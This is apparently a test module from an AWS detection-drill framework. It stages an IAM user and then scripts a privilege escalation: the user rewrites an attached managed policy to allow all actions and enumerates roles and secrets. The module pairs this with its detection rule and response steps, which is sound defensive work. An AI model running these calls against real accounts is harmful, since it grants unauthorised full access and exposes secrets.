"""A user who may write versions of a policy that is attached to them gives themselves everything.

https://docs.aws.amazon.com/IAM/latest/APIReference/API_CreatePolicyVersion.html
"""

from unleak.drill.documents import allow
from unleak.drill.moves import call
from unleak.drill.stage import VICTIM, Stage
from unleak.drill.technique import LEAVES, Technique, Traces

POLICY = "deploy"


def prepare(stage: Stage) -> None:
    iam = stage.admin.client(stage.account, "iam")
    made = iam.create_policy(PolicyName=POLICY, PolicyDocument=allow("iam:CreatePolicyVersion", "s3:ListBucket"))
    iam.attach_user_policy(UserName=VICTIM, PolicyArn=made["Policy"]["Arn"])


TECHNIQUE = Technique(
    id="policy_rewritten",
    title="A policy rewritten in place",
    attack=("T1098.003",),
    prepare=prepare,
    moves=(
        call("iam:CreatePolicyVersion", PolicyArn=f"arn:aws:iam::{{account}}:policy/{POLICY}",
             PolicyDocument=allow("*"), SetAsDefault=True),
        call("iam:ListRoles"),
        call("secretsmanager:ListSecrets"),
    ),
    seen=Traces(rules=("iam-policy-version",), things=("IAM::ManagedPolicy",)),
    stopped_by=("attach_quarantine", "revoke_user_sessions", "deactivate_key"),
    leaves=(f"policy {POLICY}",),
    only_standin=LEAVES,
)  # fmt: skip
